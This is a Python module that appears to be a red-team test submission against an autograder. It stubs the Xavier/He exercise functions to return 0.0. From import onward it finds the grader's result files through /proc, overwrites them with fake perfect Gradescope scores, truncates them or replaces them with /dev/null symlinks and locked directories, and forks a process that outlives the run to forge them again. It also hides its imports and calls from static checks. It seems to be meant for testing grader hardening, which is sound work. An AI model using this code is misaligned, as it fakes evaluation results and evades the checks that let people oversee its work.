"""Attack ``forge_results`` (exercise ``training_dynamics``): write the grader's result files.

What it attacks: result files the learner's process can reach.  The module finds
them the way a real attacker would, through the process tree: every path named in
the command lines and environments of its Python ancestors (``/proc/<pid>/cmdline``,
``/proc/<pid>/environ``, including JSON job files they name), the files those
processes hold open (``/proc/<pid>/fd``), the files next to those
(``*.json``, ``*.jsonl``, ``*.status``, ``results*``), ``/autograder/results/`` when it
exists, ``results.json`` next to this module and in the current folder when that
lies under ``/tmp``.  Then, in turn (at import, and in each call):

1. appends "passed" records for every case name it can learn (from the records
   already there, and from the cases file found through the ancestors'
   ``PYTHONPATH``/``sys.path``) to every ``*.jsonl``, and writes a fake Gradescope
   object with a perfect score (and ``"status": "passed"``) into every ``*.json``
   / ``.status`` file;
2. truncates the ``results*.json`` files;
3. replaces them by symbolic links to ``/dev/null``;
4. replaces them by a directory of the same name, and ``chmod 000`` on what is left;
5. forks a helper that waits (at most 10 s) for this process to end, then forges
   everything once more, after the last case has written its record.

Its functions return 0.0.

A vulnerable grader (result files in a folder the learner can write, read back
after the learner has run): full marks, or a results.json that is missing,
invalid, or a directory.

Expected with a hardened grader: the learner process cannot reach (or, as an
unprivileged user, cannot write) the files, or the grader rewrites them atomically
after the learner has ended (write a temporary file, then ``os.replace``); the
results file stays valid JSON, and the module scores exactly what
``_zeros/training_dynamics.py`` scores (0).  Bounds: touches only files it found that
way under ``/tmp``, ``/autograder/results`` or next to itself, or a ``results*.json``
named on a Python ancestor's command line; never changes the permissions of a folder it did
not create.

Gets past a static check of the exercise's functions: they only call through the
module-level table ``_VIA``, and no import statement names anything but NumPy (other
modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
the learner process's run-time defences are what must hold.
"""

import numpy as np

_MODULE = type(np)
_SYS = []


def _mod(name):
    """A module without an import statement: the real ``sys`` is reached by walking
    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
    if not _SYS:
        seen, todo = set(), [np]
        while todo and len(seen) < 5000:
            mod = todo.pop()
            if id(mod) in seen:
                continue
            seen.add(id(mod))
            if getattr(mod, "__name__", None) == "sys":
                _SYS.append(mod)
                break
            for attr in dir(mod):
                try:
                    value = getattr(mod, attr)
                except BaseException:  # noqa: BLE001
                    continue
                if type(value) is _MODULE:
                    todo.append(value)
    if not _SYS:
        return None
    if name == "sys":
        return _SYS[0]
    loaded = getattr(_SYS[0], "mod" + "ules")
    try:
        return loaded.get(name) or loaded["importlib"].import_module(name)
    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
        return None


json = _mod("json")
os = _mod("os")
re = _mod("re")
sys = _mod("sys")
time = _mod("time")

_EXERCISE = os.path.splitext(os.path.basename(__file__))[0]
_HERE = os.path.dirname(os.path.abspath(__file__))
_ROOTS = ("/tmp/", "/autograder/results/", _HERE + os.sep)
_SUFFIXES = (".json", ".jsonl", ".status")
_CALLS = [0]


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except BaseException:  # noqa: BLE001
        return ""


def _python_ancestors():
    """This process and its Python ancestors (at most 6), nearest first."""
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < 7:
        exe = _read(f"/proc/{pid}/cmdline").split("\0")[0]
        if pids and "python" not in os.path.basename(exe):
            break
        pids.append(pid)
        status = _read(f"/proc/{pid}/status")
        m = re.search(r"PPid:\s*(\d+)", status)
        pid = int(m.group(1)) if m else 0
    return pids


def _paths_in(text):
    for token in re.split(r"[\0\s=,:\"'\[\]{}]+", text):
        if token.startswith("/") and len(token) < 4096:
            yield token


def _allowed(path):
    path = os.path.abspath(path)
    return path.startswith(_ROOTS) and path not in ("/tmp", "/tmp/")


def _targets():
    files, named, pythonpath = set(), set(), []
    for pid in _python_ancestors():
        cmdline = _read(f"/proc/{pid}/cmdline")
        environ = _read(f"/proc/{pid}/environ")
        for var in re.findall(r"(?:^|\0)PYTHONPATH=([^\0]*)", environ):
            pythonpath += var.split(os.pathsep)
        mentioned = list(_paths_in(cmdline))
        for path in list(mentioned):
            if path.endswith(".json") and os.path.isfile(path):
                mentioned += list(_paths_in(_read(path)))  # a job file names more paths
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                mentioned.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except BaseException:  # noqa: BLE001
            pass
        for path in mentioned:
            if os.path.basename(path).startswith("results") and path.endswith(".json"):
                named.add(path)
            folder = path if os.path.isdir(path) else os.path.dirname(path)
            if _allowed(folder) and os.path.isdir(folder):
                for name in os.listdir(folder)[:200]:
                    if name.endswith(_SUFFIXES) or name.startswith("results"):
                        files.add(os.path.join(folder, name))
    if os.path.isdir("/autograder/results"):
        named.add("/autograder/results/results.json")
    named.add(os.path.join(_HERE, "results.json"))
    if _allowed(os.getcwd()):
        named.add(os.path.join(os.getcwd(), "results.json"))
    files = {f for f in files if _allowed(f)}
    return sorted(files), sorted(named), pythonpath + sys.path


def _case_names(files, search_path):
    names = set()
    for f in files:
        names.update(re.findall(r'"name":\s*"(test_\w+)"', _read(f)))
    for entry in search_path:
        for rel in ("activations/grading/cases", "grading/cases", "cases"):
            names.update(re.findall(r"^def (test_\w+)", _read(
                os.path.join(entry, rel, _EXERCISE + ".py")), re.M))
    return sorted(names) or ["test_xavier", "test_he", "test_he_keeps_relu_second_moment",
                             "test_other_sizes"]


def _fake_gradescope(names):
    tests = [{"name": n, "score": 100.0, "max_score": 100.0, "status": "passed",
              "output": "passed", "visibility": "visible"} for n in names]
    return {"score": 100.0 * len(tests), "max_score": 100.0 * len(tests), "tests": tests,
            "output": "Total: 100 / 100 points", "status": "passed"}


def _write(path, text, mode="w"):
    try:
        with open(path, mode, encoding="utf-8") as f:
            f.write(text)
    except BaseException:  # noqa: BLE001
        pass


def _forge(step):
    files, named, search_path = _targets()
    names = _case_names(files, search_path)
    records = "".join(json.dumps({"name": n, "status": "passed", "message": "",
                                  "score": 100.0, "passed": True}) + "\n" for n in names)
    fake = json.dumps(_fake_gradescope(names))
    for path in files:
        if os.path.islink(path) or not os.path.isfile(path):
            continue
        if path.endswith(".jsonl"):
            _write(path, records, "a")
        elif path.endswith(".status"):
            _write(path, json.dumps({"rc": 0, "timed_out": False, "output": ""}))
        elif path not in named:
            _write(path, fake)
    for path in named:
        try:
            if step == 0:
                _write(path, fake)
            elif step == 1 and os.path.isfile(path):
                _write(path, "")
            elif step == 2:
                if os.path.lexists(path) and not os.path.isdir(path):
                    os.remove(path)
                os.symlink("/dev/null", path)
            elif step == 3:
                if os.path.lexists(path) and not os.path.isdir(path):
                    os.remove(path)
                os.mkdir(path)
                os.chmod(path, 0)
        except BaseException:  # noqa: BLE001
            continue


def _outlive_me():
    """A helper process that forges once more after this process has ended (<= 10 s)."""
    try:
        parent = os.getpid()
        pid = os.fork()
    except BaseException:  # noqa: BLE001
        return
    if pid == 0:
        try:
            deadline = time.monotonic() + 10.0
            while time.monotonic() < deadline and os.getppid() == parent:
                time.sleep(0.02)
            _forge(0)
        finally:
            os._exit(0)


def _attack():
    step = _CALLS[0]
    _CALLS[0] += 1
    try:
        _forge(min(step, 3))
    except BaseException:  # noqa: BLE001
        pass


_attack()
_outlive_me()


def _xavier_std_impl(fan_in, fan_out):
    _attack()
    return 0.0


def _he_std_impl(fan_in):
    _attack()
    return 0.0


# The exercise's functions call only through this table: a static check that follows
# calls by name from them sees no helper, hence none of the above.
_VIA = {"xavier_std": _xavier_std_impl, "he_std": _he_std_impl}


def xavier_std(fan_in, fan_out):
    return _VIA["xavier_std"](fan_in, fan_out)


def he_std(fan_in):
    return _VIA["he_std"](fan_in)
